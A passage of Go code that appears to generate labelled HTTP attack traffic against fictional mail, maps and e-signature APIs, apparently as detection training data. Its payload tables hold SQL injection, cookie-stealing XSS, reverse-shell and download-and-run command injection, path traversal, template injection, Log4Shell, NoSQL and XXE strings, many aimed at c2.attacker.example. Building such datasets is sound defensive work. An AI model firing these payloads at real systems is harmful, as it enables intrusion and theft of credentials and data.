	return h9X{u: u, method: "GET", url: h9Sign + "/v2/accounts/me", auth: "Bearer " + tok, hdr: [][2]string{{"Origin", "https://app.signdesk.test"}}, status: 401, rhdr: [][2]string{{"Access-Control-Allow-Origin", "https://app.signdesk.test"}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}, rbody: `{"errorCode":"AUTHORIZATION_INVALID_TOKEN","message":"token expired"}`}
}

// h9P is an attack payload and where it goes. raw: the payload is already encoded for its place.
type h9P struct {
	place, v string
	raw      bool
}

func h9XMLEsc(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", `"`, "&quot;").Replace(s)
}

func h9UEsc(s string) string {
	b, _ := json.Marshal(s) // escapes < > & as \u003c \u003e \u0026
	out := strings.NewReplacer("'", `\u0027`, "(", `\u0028`, ")", `\u0029`, "=", `\u003d`).Replace(string(b))
	return out
}

// place builds the exchange carrying p at its place.
func (g *h9Gen) place(u *h9User, p h9P, labels ...string) h9X {
	q := func() string {
		if p.raw {
			return p.v
		}
		return h9Q(p.v)
	}
	pe := func() string {
		if p.raw {
			return p.v
		}
		return url.PathEscape(p.v)
	}
	js := func() string { return h9JSON(p.v) }
	x := h9X{u: u, status: 200, labels: labels}
	lst := h9Pick(g.r, g.lists)
	env := h9Pick(g.r, g.envs)
	switch p.place {
	case "q:geo":
		x.method, x.url, x.rbody = "GET", h9Maps+"/v1/geocode?q="+q()+"&limit=5&lang=en", `{"results":[],"attribution":"© GeoNav"}`
	case "q:members":
		x.method, x.url, x.rbody = "GET", h9Mail+"/v3/lists/"+lst+"/members?search="+q()+"&limit=20", `{"members":[],"next_cursor":null}`
	case "q:sort":
		x.method, x.url, x.rbody = "GET", h9Sign+"/v2/envelopes?status=sent&order_by="+q()+"&page_size=25", `{"envelopes":[],"result_set_size":0}`
	case "q:cat":
		x.method, x.url, x.rbody = "GET", h9Maps+"/v1/places/search?query=coffee&category="+q()+"&radius=1500&limit=20", `{"places":[]}`
	case "q:hpp":
		x.method, x.url, x.rbody = "GET", h9Mail+"/v3/campaigns?status=sent&status="+q()+"&limit=20", `{"campaigns":[],"total_items":0}`
	case "q:tpl":
		x.method, x.url, x.rbody = "GET", h9Mail+"/v3/templates/preview?template_id=tpl_"+h9ID(g.r, "", 8)+"&merge_tag="+q(), `{"preview_html":"<p>Hi there</p>"}`
	case "q:file":
		x.method, x.url, x.rbody = "GET", h9Sign+"/v2/documents/download?envelope="+env+"&file="+q(), `{"error":"not_found"}`
		x.status = 404
	case "q:style":
		x.method, x.url, x.rbody = "GET", h9Maps+"/v1/styles/render?style="+q()+"&format=png", `{"error":"unknown style"}`
		x.status = 400
	case "p:env":
		x.method, x.url, x.rbody, x.status = "GET", h9Sign+"/v2/envelopes/"+pe()+"/documents", `{"errorCode":"ENVELOPE_NOT_FOUND"}`, 404
	case "p:place":
		x.method, x.url, x.rbody, x.status = "GET", h9Maps+"/v1/places/"+pe(), `{"error":"place not found"}`, 404
	case "p:tpl":
		x.method, x.url, x.rbody, x.status = "GET", h9Mail+"/v3/templates/"+pe()+"/html", `{"error":"not_found"}`, 404
	case "p:tile":
		x.method, x.url, x.rbody, x.status = "GET", h9Maps+"/v1/fonts/"+pe()+"/0-255.pbf", `{"error":"font not found"}`, 404
	case "j:merge":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Mail+"/v3/lists/"+lst+"/members", `{"email_address":"qa+`+h9Hex(g.r, 3)+`@mailbox.example","status":"subscribed","merge_fields":{"FNAME":`+js()+`,"LNAME":"Smith"}}`, 201, `{"id":"`+h9Hex(g.r, 16)+`","status":"subscribed"}`
	case "j:signer":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Sign+"/v2/envelopes", `{"subject":"Please sign","documents":[{"document_id":"`+h9UUID(g.r)+`"}],"recipients":{"signers":[{"name":`+js()+`,"email":"signer@mailbox.example","routing_order":1}]},"status":"created"}`, 201, `{"envelope_id":"`+env+`","status":"created"}`
	case "j:route":
		x.method, x.url, x.body, x.rbody = "POST", h9Maps+"/v1/routes", `{"profile":"driving-car","waypoints":[{"lat":52.52,"lon":13.405},{"lat":52.39,"lon":13.06}],"options":{"avoid":[`+js()+`],"alternatives":1}}`, `{"routes":[]}`
	case "j:subject":
		x.method, x.url, x.body, x.rbody = "PATCH", h9Mail+"/v3/templates/tpl_"+h9ID(g.r, "", 8), `{"subject":`+js()+`}`, `{"updated":true}`
	case "j:uesc":
		x.method, x.url, x.body, x.rbody = "PATCH", h9Mail+"/v3/templates/tpl_"+h9ID(g.r, "", 8), `{"subject":"Spring news","preheader":`+h9UEsc(p.v)+`}`, `{"updated":true}`
	case "j:deep":
		x.method, x.url, x.body, x.rbody = "POST", h9Sign+"/v2/envelopes/search", `{"filter":{"status":["sent","delivered"],"custom_fields":[{"name":"Matter #","match":{"value":`+js()+`}}]},"page_size":25}`, `{"envelopes":[]}`
	case "j:key":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Mail+"/v3/segments", `{"name":"seg","conditions":{`+js()+`:"pro"}}`, 400, `{"error":"unknown field"}`
	case "j:place":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Maps+"/v1/datasets/ds_"+h9ID(g.r, "", 8)+"/features", `{"name":"Depot","properties":{"website":`+js()+`,"tags":["depot"]}}`, 201, `{"id":"ft_`+h9ID(g.r, "", 12)+`"}`
	case "j:tplhtml":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Mail+"/v3/templates", `{"name":"Promo","subject":"Hi {{first_name}}","html":`+js()+`}`, 201, `{"id":"tpl_`+h9ID(g.r, "", 8)+`","version":1}`
	case "j:render":
		x.method, x.url, x.body, x.status, x.rbody = "POST", h9Sign+"/v2/documents/render", `{"html":`+js()+`,"format":"pdf"}`, 202, `{"document_id":"`+h9UUID(g.r)+`","status":"rendering"}`
	case "f:void":
		v := p.v
		if !p.raw {
			v = h9Q(v)
		}
		x.method, x.url, x.body, x.rbody = "POST", h9Sign+"/v2/envelopes/"+env+"/void", "voided_reason="+v+"&notify=true", `{"status":"voided"}`
		x.hdr = [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}
	case "f:inbound":
		v := p.v
		if !p.raw {
			v = h9Q(v)
		}
		x.method, x.url, x.body, x.status, x.auth = "POST", h9Mail+"/v3/webhooks/inbound?list="+lst, "from="+h9Q("x <x@mailbox.example>")+"&to="+h9Q("replies@inbound.mailflare.test")+"&subject="+v+"&text=hi", 204, "-"
		x.hdr = [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}, {"X-Mailflare-Signature", "t=1763629200,v1=" + h9Hex(g.r, 32)}}
	case "h:ua", "h:ref", "h:ver", "h:xcorr", "h:xff", "h:client":
		name := map[string]string{"h:ua": "User-Agent", "h:ref": "Referer", "h:ver": "X-Api-Version", "h:xcorr": "X-Correlation-Id", "h:xff": "X-Forwarded-For", "h:client": "X-Client-Name"}[p.place]
		x.method, x.url, x.rbody = "GET", h9Pick(g.r, []string{h9Mail + "/v3/account/usage?period=month", h9Maps + "/v1/reverse?lat=48.8584&lon=2.2945", h9Sign + "/v2/accounts/me"}), `{"ok":true}`
		x.hdr = [][2]string{{name, p.v}}
	case "c:lang":
		x.method, x.url, x.rbody = "GET", h9Mail+"/v3/lists?page=1&per_page=25", `{"data":[],"page":1}`
		x.hdr = [][2]string{{"Cookie", "mf_theme=dark; mf_lang=" + q() + "; _ga=GA1.1.1234567.1763000000"}}
	case "m:field", "m:file":
		b := "----WebKitFormBoundary" + h9ID(g.r, "", 16)
		name, fn := "Offer letter", "offer.pdf"
		if p.place == "m:field" {
			name = p.v
		} else {
			fn = p.v
		}
		x.method, x.url, x.status, x.rbody = "POST", h9Sign+"/v2/documents", 201, `{"document_id":"`+h9UUID(g.r)+`","pages":1}`
		x.hdr = [][2]string{{"Content-Type", "multipart/form-data; boundary=" + b}}
		x.body = "--" + b + "\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\n" + name + "\r\n--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fn + "\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n1 0 obj <<>> endobj\n\r\n--" + b + "--\r\n"
	case "x:kml", "x:attr":
		v := p.v
		if !p.raw {
			v = h9XMLEsc(v)
		}
		name, id := "Depot", "pm1"
		if p.place == "x:kml" {
			name = v
		} else {
			id = v
		}
		x.method, x.url, x.status, x.rbody = "POST", h9Maps+"/v1/uploads/tracks?format=kml", 201, `{"upload_id":"up_`+h9ID(g.r, "", 10)+`","status":"processed"}`
		x.hdr = [][2]string{{"Content-Type", "application/vnd.google-earth.kml+xml"}}
		x.body = `<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark id="` + id + `"><name>` + name + `</name><Point><coordinates>-0.1276,51.5072,0</coordinates></Point></Placemark></Document></kml>`
	case "x:env":
		v := p.v
		if !p.raw {
			v = h9XMLEsc(v)
		}
		x.method, x.url, x.status, x.rbody = "POST", h9Sign+"/v2/envelopes/import", 201, `{"envelope_id":"`+env+`"}`
		x.hdr = [][2]string{{"Content-Type", "application/xml"}}
		x.body = `<?xml version="1.0"?><envelope><subject>` + v + `</subject><signer><name>Ann Lee</name><email>ann@mailbox.example</email></signer></envelope>`
	case "x:body":
		x.method, x.url, x.status, x.rbody = "POST", h9Maps+"/v1/uploads/tracks?format=auto", 201, `{"upload_id":"up_`+h9ID(g.r, "", 10)+`","status":"queued"}`
		x.hdr = [][2]string{{"Content-Type", "application/xml"}}
		x.body = p.v
	case "x:sign":
		x.method, x.url, x.status, x.rbody = "POST", h9Sign+"/v2/envelopes/import", 201, `{"envelope_id":"`+env+`"}`
		x.hdr = [][2]string{{"Content-Type", "text/xml; charset=utf-8"}}
		x.body = p.v
	case "up:svg", "up:html", "up:xml":
		b := "----geckoformboundary" + h9Hex(g.r, 12)
		fn, ct := "logo.svg", "image/svg+xml"
		target := h9Mail + "/v3/assets"
		if p.place == "up:html" {
			fn, ct, target = "contract.html", "text/html", h9Sign+"/v2/documents"
		} else if p.place == "up:xml" {
			fn, ct, target = "route.gpx", "application/gpx+xml", h9Maps+"/v1/uploads/tracks"
		}
		x.method, x.url, x.status, x.rbody = "POST", target, 201, `{"id":"as_`+h9ID(g.r, "", 10)+`"}`
		x.hdr = [][2]string{{"Content-Type", "multipart/form-data; boundary=" + b}}
		x.body = "--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fn + "\"\r\nContent-Type: " + ct + "\r\n\r\n" + p.v + "\r\n--" + b + "--\r\n"
	case "b:login":
		x.method, x.url, x.body, x.auth, x.status, x.rbody = "POST", h9Sign+"/v2/auth/login", p.v, "-", 401, `{"errorCode":"INVALID_CREDENTIALS"}`
	case "b:seg":
		x.method, x.url, x.body, x.rbody = "POST", h9Mail+"/v3/segments/preview", p.v, `{"member_count":0,"sample":[]}`
	case "b:query":
		x.method, x.url, x.body, x.rbody = "POST", h9Maps+"/v1/datasets/ds_"+h9ID(g.r, "", 8)+"/query", p.v, `{"features":[]}`
	case "qs:members":
		x.method, x.url, x.rbody = "GET", h9Mail+"/v3/lists/"+lst+"/members?"+p.v, `{"members":[],"next_cursor":null}`
	case "qs:export":
		x.method, x.url, x.rbody = "GET", h9Maps+"/v1/export?"+p.v, `{"error":"invalid export request"}`
		x.status = 400
	default:
		panic("unknown place " + p.place)
	}
	return x
}

func (g *h9Gen) attacker() *h9User { return h9Pick(g.r, g.att) }

func (g *h9Gen) attacks() []h9X {
	var out []h9X
	for _, p := range h9SQLiPayloads {
		out = append(out, g.place(g.attacker(), p, h9SQLi))
	}
	for _, p := range h9XSSPayloads {
		out = append(out, g.place(g.attacker(), p, h9XSS))
	}
	for _, p := range h9OtherPayloads {
		out = append(out, g.place(g.attacker(), p, h9Other))
	}
	for _, q := range h9QuirkPayloads {
		out = append(out, g.place(g.attacker(), q.p, q.labels...))
	}
	out = append(out, g.ssrfAttacks()...)
	out = append(out, g.jwtAttacks()...)
	out = append(out, g.verboseAttacks()...)
	out = append(out, g.sensitiveAttacks()...)
	out = append(out, g.limitAttacks()...)
	return out
}

var h9SQLiPayloads = []h9P{
	{"q:geo", "Main St' UNION SELECT username,password_hash,NULL FROM users--", false},
	{"q:geo", "x%27%20uNiOn%2F**%2FsElEcT%201%2C2%2Cversion()--%20-", true},
	{"q:geo", "Berlin%2527%2520OR%2520%25271%2527%253D%25271", true},
	{"q:geo", "1'%0bOR%0b1=1%0b--%0b", true},
	{"q:geo", "Paris')/*!50000UNION*//*!50000SELECT*/1,2,concat(user(),0x3a,database())-- -", false},
	{"q:members", "smith'/**/OR/**/1=1/**/--", false},
	{"q:members", "%27%09UNION%0ASELECT%0Dnull%2Cemail%2Cpassword%0DFROM%0Dusers%23", true},
	{"q:members", "a' AnD 1=1 uNIoN aLl sElEcT null,table_name,null fRoM information_schema.tables-- ", false},
	{"q:members", "x' AND ASCII(SUBSTRING((SELECT password FROM admins LIMIT 1),1,1))>64-- ", false},
	{"q:members", "%u0027%u0020OR%u0020%u00271%u0027%u003D%u00271%u0027--", true},
	{"q:sort", "created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", false},
	{"q:sort", "name;SELECT pg_sleep(7)--", false},
	{"q:sort", "(select*from(select(sleep(5)))a)", false},
	{"q:sort", "sent_at desc,(SELECT 1 FROM pg_sleep(6))", false},
	{"q:sort", "1,(select case when (select substr(version(),1,1))='P' then pg_sleep(5) else pg_sleep(0) end)", false},
	{"q:sort", "IF(1=1,sent_at,(SELECT 1 UNION SELECT 2))", false},
	{"q:cat", "coffee') AND 1=CONVERT(int,(SELECT @@version))--", false},
	{"q:cat", "bar';WAITFOR DELAY '0:0:5'--", false},
	{"q:cat", "pharmacy' AND 4242=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND 'a'='a", false},
	{"q:cat", "ev%5Fcharging%27%20%4F%52%20%27x%27%3D%27x", true},
	{"q:hpp", "sent' AND EXTRACTVALUE(7841,CONCAT(0x5c,0x7178,(SELECT user()),0x7178))-- qx", false},
	{"q:hpp", "draft') UNION ALL SELECT NULL,NULL,NULL,NULL--", false},
	{"q:hpp", "scheduled' AND updatexml(1,concat(0x7e,(select @@version)),1)#", false},
	{"q:tpl", "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)", false},
	{"q:tpl", "-1 UNION SELECT 1,group_concat(api_key),3 FROM api_keys--", false},
	{"q:tpl", "0.1e1union select 1,@@version,3-- -", false},
	{"q:tpl", "first_name' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#", false},
	{"p:env", "1' OR '1'='1", false},
	{"p:env", "x%27%20AND%201%3D(SELECT%201%20FROM%20pg_sleep(5))--", true},
	{"p:place", "pl_1%27%20AND%20SLEEP(5)%23", true},
	{"p:place", "pl_x') OR ('a'='a", false},
	{"p:tpl", "tpl_x'%20UNION%20ALL%20SELECT%20NULL,version(),NULL--%20", true},
	{"p:tpl", "tpl_1;DROP TABLE templates--", false},
	{"j:merge", "Robert'); DROP TABLE members;--", false},
	{"j:merge", "admin' #", false},
	{"j:merge", "Zoë' || (SELECT string_agg(email||':'||password_hash, ',') FROM users) || '", false},
	{"j:signer", "Anne' OR 1=1 -- ", false},
	{"j:signer", "O'Neil' AND 1=1 UNION SELECT secret FROM signing_keys--", false},
	{"j:signer", "x');SELECT pg_sleep(8);--", false},
	{"j:route", "tolls' AND (SELECT 8512 FROM (SELECT(SLEEP(5)))Qx)-- Zw", false},
	{"j:route", "ferries\" OR \"1\"=\"1\" --", false},
	{"j:subject", "Hi'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", false},
	{"j:subject", "x' AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')--", false},
	{"j:deep", "2026/0142' AND 1=1 UNION SELECT api_key,secret,1 FROM integrations--", false},
	{"j:deep", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- ", false},
	{"j:key", "plan' OR 1=1--", false},
	{"j:uesc", "x' OR 1=1 -- ", false},
	{"j:uesc", "' UNION SELECT null,password FROM users--", false},
	{"f:void", "dup';WAITFOR DELAY '0:0:5'--", false},
	{"f:void", "x%2527%2BOR%2B%25271%2527%253D%25271%2527--%2B", true},
	{"f:void", "test'+AND+(SELECT+1+FROM+(SELECT+SLEEP(5))x)--+", true},
	{"f:inbound", "Re: hello' UNION SELECT email,password FROM users#", false},
	{"h:ua", "Mozilla/5.0' AND SLEEP(5) AND 'a'='a", false},
	{"h:ref", "https://app.mailflare.test/lists?id=1' OR '1'='1'--", false},
	{"h:xcorr", "1;SELECT pg_sleep(10)--", false},
	{"h:xff", "198.51.100.9' AND (SELECT 1 FROM pg_sleep(5))='1", false},
	{"c:lang", "en' AND 1=2 UNION SELECT table_name FROM information_schema.tables--", false},
	{"m:field", "Offer';SHUTDOWN--", false},
	{"m:file", "scan' OR '1'='1.pdf", false},
	{"x:kml", "Loop' UNION SELECT password FROM users--", false},
	{"x:attr", "1' OR 1=1--", false},
	{"x:env", "NDA'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--", false},
	{"x:env", "x&#39; OR &#39;a&#39;=&#39;a&#39;--", true},
	{"q:file", "report.pdf' AND 1=1 UNION SELECT load_file(0x2f6574632f686f737473)-- ", false},
	{"q:style", "streets' OR 'x'='x'#", false},
}

var h9XSSPayloads = []h9P{
	{"q:geo", "<svg/onload=alert(document.domain)>", false},
	{"q:geo", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", true},
	{"q:geo", "%253Cscript%253Efetch('//c2.attacker.example/'%252Bdocument.cookie)%253C%252Fscript%253E", true},
	{"q:geo", "%u003Csvg%20onload%3Dalert(1)%u003E", true},
	{"q:members", "\"><img src=x onerror=alert(1)>", false},
	{"q:members", "<ScRiPt>prompt(1)</sCrIpT>", false},
	{"q:members", "<scr<script>ipt>alert(1)</scr</script>ipt>", false},
	{"q:members", "<img\tsrc=x\tonerror=alert(1)>", false},
	{"q:cat", "<details open ontoggle=alert(1)>", false},
	{"q:cat", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", false},
	{"q:cat", "<img/src/onerror=alert(1)>", false},
	{"q:hpp", "sent\"><svg onload=alert&lpar;1&rpar;>", false},
	{"q:hpp", "<body onpageshow=alert(1)>", false},
	{"q:tpl", "<iframe src=javascript:alert(1)>", false},
	{"q:tpl", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", false},
	{"q:tpl", "<input autofocus onfocus=alert(1)>", false},
	{"q:sort", "\" autofocus onfocus=\"alert(1)", false},
	{"p:env", "<svg onload=alert(1)>", false},
	{"p:place", "%3Cimg%20src=1%20oNeRrOr=confirm%601%60%3E", true},
	{"p:tpl", "<script>alert(1)<%2Fscript>", false},
	{"j:merge", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", false},
	{"j:merge", "<video><source onerror=\"alert(1)\">", false},
	{"j:merge", "<marquee onstart=alert(1)>", false},
	{"j:signer", "Ann<x contenteditable onblur=alert(1)>lose focus!", false},
	{"j:signer", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Ann</a>", false},
	{"j:signer", "<object data=\"data:text/html,<script>alert(1)</script>\">", false},
	{"j:route", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>", false},
	{"j:subject", "<img src=x onerror=alert&#40;1&#41;>", false},
	{"j:subject", "Hi {{first_name}}<script src=//c2.attacker.example/h.js></script>", false},
	{"j:uesc", "<img src=x onerror=alert(1)>", false},
	{"j:uesc", "<svg onload=alert(document.cookie)>", false},
	{"j:deep", "<base href=\"javascript:/a/-alert(1)///////\">", false},
	{"j:deep", "<form><button formaction=javascript:alert(1)>X</button></form>", false},
	{"j:place", "javascript:alert(document.domain)", false},
	{"j:place", "java&#x09;script:alert(1)", false},
	{"j:place", "javascript&colon;alert(1)", false},
	{"j:place", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", false},
	{"j:place", "vbscript:msgbox(1)", false},
	{"j:place", "JaVaScRiPt:fetch('//c2.attacker.example/'+localStorage.token)", false},
	{"j:place", "&#x6A;avascript:alert(1)", false},
	{"j:tplhtml", "<html><body><p>Hi {{first_name}}</p><img src=x onerror=\"fetch('https://c2.attacker.example/?c='+document.cookie)\"></body></html>", false},
	{"j:tplhtml", "<table><tr><td><a href=\"javascript:alert(1)\">View online</a></td></tr></table>", false},
	{"j:tplhtml", "<div style=\"x\" onmouseover=\"alert(1)\">{{first_name}}</div>", false},
	{"j:render", "<html><body><h1>NDA</h1><script>document.location='https://c2.attacker.example/?c='+document.cookie</script></body></html>", false},
	{"j:render", "<html><body onload=\"alert(1)\"><p>Contract</p></body></html>", false},
	{"j:render", "<p>Terms</p><embed src=\"javascript:alert(1)\">", false},
	{"f:void", "<svg/onload=alert(1)//", false},
	{"f:void", "%3Cscript%3Ealert(1)%3C/script%3E", false},
	{"f:inbound", "<isindex type=image src=1 onerror=alert(1)>", false},
	{"f:inbound", "Re:<img src=\"x\"\nonerror=alert(1)>", false},
	{"h:ref", "https://app.mailflare.test/\"><script>alert(1)</script>", false},
	{"h:ua", "Mozilla/5.0 <script>alert(1)</script>", false},
	{"h:client", "<img src=x onerror=alert(1)>", false},
	{"c:lang", "en\"><svg onload=alert(1)>", false},
	{"m:field", "<svg onload=alert(1)>", false},
	{"m:file", "\"><img src=x onerror=alert(1)>.pdf", false},
	{"x:kml", "<img src=x onerror=alert(1)>", false},
	{"x:env", "<script>alert(1)</script>", false},
	{"x:attr", "x\" onmouseover=\"alert(1)", false},
	{"up:svg", `<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" fill="#0a7"/><script type="text/javascript">alert(document.domain)</script></svg>`, false},
	{"up:svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="20"/></svg>`, false},
	{"up:svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>`, false},
	{"up:html", `<!doctype html><html><head><title>Contract</title></head><body><p>Please sign</p><script>fetch('/v2/accounts/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://c2.attacker.example/',t))</script></body></html>`, false},
	{"up:html", `<html><body><img src="logo.png" onerror="alert(1)"><p>Lease</p></body></html>`, false},
}

var h9OtherPayloads = []h9P{
	// command injection
	{"q:file", "offer.pdf;id", false},
	{"q:file", "offer.pdf|cat${IFS}/etc/passwd", false},
	{"q:file", "x$(curl${IFS}-s${IFS}http://c2.attacker.example/s.sh|sh)", false},
	{"q:file", "doc.pdf%0Awhoami", true},
	{"q:style", "streets`uname -a`", false},
	{"q:style", "dark&&{cat,/etc/passwd}", false},
	{"q:style", "x;/???/c?t$IFS/???/p??s??", false},
	{"j:route", "tolls;$'\\x69\\x64'", false},
	{"j:route", "ferries|w'h'o'am'i", false},
	{"j:route", "x && c\\at /etc/shadow", false},
	{"j:signer", "Ann; nc -e /bin/sh 203.0.113.250 4444", false},
	{"j:deep", "$(wget -qO- http://c2.attacker.example/x|bash)", false},
	{"f:void", "dup%0a/bin/bash%20-c%20'bash%20-i%20>%26%20/dev/tcp/203.0.113.250/4444%200>%261'", true},
	{"m:file", "scan.pdf;curl http://c2.attacker.example/`whoami`", false},
	{"m:field", "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://c2.attacker.example/a')\"", false},
	{"h:xcorr", "abc; ping -c 10 127.0.0.1", false},
	// path traversal
	{"q:file", "../../../../../../etc/passwd", false},
	{"q:file", "..%252f..%252f..%252f..%252fetc%252fpasswd", true},
	{"q:file", "....//....//....//....//etc/passwd", false},
	{"q:file", "..\\..\\..\\..\\windows\\win.ini", false},
	{"q:file", "../../../../proc/self/environ%00.pdf", true},
	{"q:file", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", true},
	{"q:file", "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", true},
	{"q:style", "..%2F..%2F..%2F..%2Fapp%2F.env", true},
	{"p:tile", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", true},
	{"p:tile", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2froot%2f.ssh%2fid_rsa", true},
	{"p:env", "..%252f..%252f..%252fvar%252flog%252fsignd%252faccess.log", true},
	{"m:file", "../../../../../var/www/html/shell.php", false},
	{"x:env", "../../../../etc/passwd", false},
	{"c:lang", "../../../../../../etc/passwd%00", true},
	// server-side template injection through merge tags
	{"j:subject", "Hi {{config.__class__.__init__.__globals__['os'].popen('id').read()}}", false},
	{"j:subject", "{{''.__class__.__mro__[1].__subclasses__()}}", false},
	{"j:merge", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}", false},
	{"j:merge", "{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}", false},
	{"j:merge", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", false},
	{"j:tplhtml", "<p>Hi {{['id']|filter('system')}}</p>", false},
	{"j:tplhtml", "<p>{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}</p>", false},
	{"j:tplhtml", "<p>${\"freemarker.template.utility.Execute\"?new()(\"id\")}</p>", false},
	{"j:tplhtml", "<p>#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")</p>", false},
	{"j:render", "<p><%= `id` %></p>", false},
	{"j:render", "<p><%= system(\"cat /etc/passwd\") %></p>", false},
	{"j:render", "<p>{system('id')}</p>", false},
	{"j:uesc", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", false},
	{"j:deep", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))", false},
	{"q:tpl", "{{7*'7'}}{{config.items()}}", false},
	{"q:tpl", "%7B%7B%27%27.__class__.__base__.__subclasses__()%7D%7D", true},
	{"f:inbound", "*|FNAME|*${T(java.lang.Runtime).getRuntime().exec(\"id\")}", false},
	// Log4Shell / JNDI
	{"h:ua", "${jndi:ldap://c2.attacker.example:1389/a}", false},
	{"h:ver", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://c2.attacker.example/x}", false},
	{"h:ref", "${${::-j}${::-n}${::-d}${::-i}:rmi://c2.attacker.example:1099/obj}", false},
	{"h:xff", "${jndi:dns://c2.attacker.example/xff}", false},
	{"h:client", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//c2.attacker.example/b}", false},
	{"j:signer", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://c2.attacker.example/s}", false},
	{"q:geo", "%24%7Bjndi%3Aldap%3A%2F%2Fc2.attacker.example%2Fq%7D", true},
	{"c:lang", "${jndi:ldaps://c2.attacker.example/c}", false},
	// NoSQL operators
	{"b:login", `{"email":"admin@signdesk.test","password":{"$ne":null}}`, false},
	{"b:login", `{"email":{"$gt":""},"password":{"$gt":""}}`, false},
	{"b:login", `{"email":{"$regex":"^adm"},"password":{"$exists":true}}`, false},
	{"b:seg", `{"conditions":{"$where":"function(){ sleep(5000); return true; }"}}`, false},
	{"b:seg", `{"conditions":{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}}`, false},
	{"b:query", `{"filter":{"$where":"this.owner_id != null"}}`, false},
	{"qs:members", "email%5B%24ne%5D=x&password%5B%24ne%5D=x", false},
	{"qs:members", "search=a&%24where=sleep(3000)", false},
	{"qs:members", "api_key[$regex]=^a", false},
	// XXE
	{"x:body", `<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><gpx version="1.1"><metadata><name>&xxe;</name></metadata></gpx>`, false},
	{"x:body", `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY % remote SYSTEM "http://c2.attacker.example/evil.dtd">%remote;]><kml><Document><name>x</name></Document></kml>`, false},
	{"x:body", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><gpx><name>&lol4;</name></gpx>`, false},
	{"x:sign", `<?xml version="1.0"?><envelope xmlns:xi="http://www.w3.org/2001/XInclude"><subject><xi:include parse="text" href="/etc/passwd"/></subject></envelope>`, false},
	{"x:sign", `<?xml version="1.0" encoding="UTF-16BE"?><!DOCTYPE envelope SYSTEM "http://c2.attacker.example/envelope.dtd"><envelope><subject>x</subject></envelope>`, false},
	{"x:sign", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://c2.attacker.example/?d=%a;'>">%b;%c;]><envelope/>`, false},
